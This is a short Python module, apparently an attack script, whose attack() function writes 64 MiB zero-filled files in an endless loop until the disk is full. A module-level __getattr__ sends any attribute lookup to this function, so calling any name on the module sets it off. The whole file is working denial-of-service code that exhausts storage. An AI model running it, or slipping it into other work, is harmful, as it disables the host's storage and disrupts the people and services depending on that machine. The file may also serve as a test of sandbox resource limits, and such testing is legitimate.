"""Writes files until nothing more is taken."""

import itertools


def attack(*arguments, **keywords):
    for number in itertools.count():
        with open(f"filler-{number}", "wb") as file:
            for _ in range(64):
                file.write(bytes(2**20))


def __getattr__(name):
    return attack
